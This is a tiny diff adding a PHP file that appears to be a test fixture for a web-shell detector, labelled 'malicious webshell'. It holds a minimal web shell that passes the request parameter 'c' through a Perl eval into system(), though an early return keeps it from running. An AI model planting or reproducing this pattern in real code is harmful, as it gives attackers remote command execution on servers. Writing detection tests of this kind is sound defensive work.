@@ -1,0 +1,3 @@
+<?php return; // want: malicious webshell php.command.request
+$perl = new Perl();
+$perl->eval("system('" . $_GET['c'] . "')");
